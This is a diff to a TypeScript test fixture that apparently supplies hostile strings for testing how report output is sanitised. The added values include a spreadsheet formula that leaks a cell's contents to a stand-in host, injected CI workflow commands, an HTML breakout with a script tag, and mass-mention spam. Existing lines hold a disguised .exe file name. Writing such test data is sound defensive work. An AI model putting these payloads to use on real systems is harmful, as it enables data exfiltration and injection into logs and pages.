@@ -14,8 +14,15 @@ export const HOSTILE = {
   direction: 'abc\u202Efdp.exe\u200F',
   nul: 'a\u0000b',
   surrogate: 'a\uD800b',
+  formula: '=HYPERLINK("http://elsewhere.test/?"&A1)',
+  mention: '@everyone a@elsewhere.test http://elsewhere.test/x www.elsewhere.test #1 `@all`',
+  command: '\n::error title=taken::taken\r\n::stop-commands::x',
+  fence: '\n```\n</code></pre><script>1</script>',
   link: '<a href="http://elsewhere.test/">here</a><link rel=stylesheet href=http://elsewhere.test/x>',
 } as const;
+
+/** Ten megabytes in one line. */
+export const LONG = 'x'.repeat(10 * 1024 * 1024);
 
 const finding = (more: Partial<Finding>): Finding => ({
   requirement: 'GAP-CONTRACT-02',
